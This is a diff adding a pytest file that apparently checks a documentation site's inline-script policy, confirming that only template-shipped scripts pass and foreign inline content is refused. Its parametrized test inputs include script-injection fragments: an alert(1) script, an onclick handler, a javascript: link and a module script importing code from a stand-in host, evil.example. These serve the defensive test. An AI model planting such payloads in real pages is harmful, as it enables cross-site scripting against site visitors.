@@ -1,0 +1,68 @@
+"""The policy's inline scripts come from the templates alone; a page with
+any other inline script, <style>, handler or style attribute is refused."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import material
+import pytest
+
+from moussalaha import policy
+from moussalaha.problems import Problems
+
+pytestmark = pytest.mark.unit
+ROOT = Path(__file__).resolve().parents[2]
+TEMPLATES = [ROOT / "overrides", Path(material.__file__).parent / "templates"]
+
+
+@pytest.fixture(scope="module")
+def allowed():
+    return policy.template_scripts(TEMPLATES)
+
+
+def test_the_templates_scripts_are_known(allowed):
+    assert len(allowed) >= 4
+    assert policy.sha256('document.documentElement.classList.replace("no-js","js")') in allowed
+    # The theme's scope script, rendered for a page one folder deep (fr/centre.html).
+    scope = next(h for h, where in allowed.items() if where.startswith("base.html"))
+    assert scope
+
+
+def test_a_page_of_the_site_passes(allowed):
+    page = ('<html class="no-js"><head><script>document.documentElement.classList.replace("no-js","js")</script>'
+            '<script id="__config" type="application/json">{"a": 1}</script>'
+            '<script src="assets/javascripts/search.js"></script></head><body><p>x</p></body></html>')
+    assert policy.foreign_inline(page, allowed) == []
+
+
+@pytest.mark.parametrize("fragment, words", [
+    ("<script>alert(1)</script>", "inline <script> that the site's templates do not ship: «alert(1)»"),
+    ('<script type="module">import("//evil.example/x.js")</script>', "inline <script>"),
+    ("<style>body{display:none}</style>", "a <style> element"),
+    ('<p onclick="alert(1)">x</p>', '<p onclick="alert(1)">'),
+    ('<p style="color:red">x</p>', '<p style="color:red">'),
+    ('<a href="javascript:go()">x</a>', '<a href="javascript:go()">'),
+])
+def test_a_page_with_a_foreign_inline_script_fails(allowed, fragment, words):
+    found = policy.foreign_inline(f"<html><head></head><body>{fragment}</body></html>", allowed)
+    assert any(words in item for item in found), found
+
+
+def test_the_built_site_scripts_are_all_known(allowed, tmp_path):
+    """Every inline script a real build ships is one the templates give
+    (when a built site is at hand: SITE=path)."""
+    import os
+    site = Path(os.environ.get("SITE", "/nonexistent"))
+    if not site.is_dir():
+        pytest.skip("set SITE to a built site to run this")
+    for path in site.rglob("*.html"):
+        assert policy.foreign_inline(path.read_text(encoding="utf-8"), allowed) == [], path
+
+
+def test_a_foreign_inline_script_is_refused_on_the_editors_page(allowed):
+    page = '<html><head></head><body><p style="color: red">x</p></body></html>'
+    with pytest.raises(Problems) as caught:
+        policy.refuse_foreign(page, allowed, "docs/about.fr.md")
+    assert str(caught.value).startswith('docs/about.fr.md:1: the built page would carry <p style="color: red">')
+    assert "site.css" in str(caught.value)
